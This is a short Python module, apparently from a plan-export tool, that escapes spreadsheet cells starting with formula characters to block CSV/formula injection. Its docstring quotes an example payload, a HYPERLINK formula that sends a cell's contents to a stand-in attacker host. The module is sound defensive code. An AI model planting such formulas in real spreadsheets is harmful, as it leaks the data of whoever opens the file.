"""What a cell of a CSV or XLSX file we write may hold (formula injection, OWASP "CSV Injection").

A spreadsheet runs text that begins with `=`, `+`, `-` or `@` as a formula (and a leading tab or
carriage return can hide such text from a reader), so a provider's action called
`=HYPERLINK("http://evil.example/?x="&A1,"Click me")` would become a live link, or worse, in the
officer's copy of the plan. Such text gets a leading apostrophe, OWASP's advice: every
spreadsheet shows it as the text it is, and nothing is lost (take the apostrophe off to get the
original back). Numbers, dates and empty cells keep their type: a negative number is still a
number, never text.
"""

from __future__ import annotations

from typing import TypeVar

#: The first characters that make a spreadsheet read text as a formula. The full-width forms are
#: there too: some spreadsheets (Excel with East Asian input) turn them into the ASCII ones.
T = TypeVar("T")

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
ESCAPE = "'"


def starts_like_a_formula(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def safe_cell(value: T) -> T | str:
    """The value to write in a cell: text that could run as a formula, with a leading
    apostrophe; anything else (numbers, dates, None, other text) unchanged."""
    if isinstance(value, str) and starts_like_a_formula(value):
        return ESCAPE + value
    return value
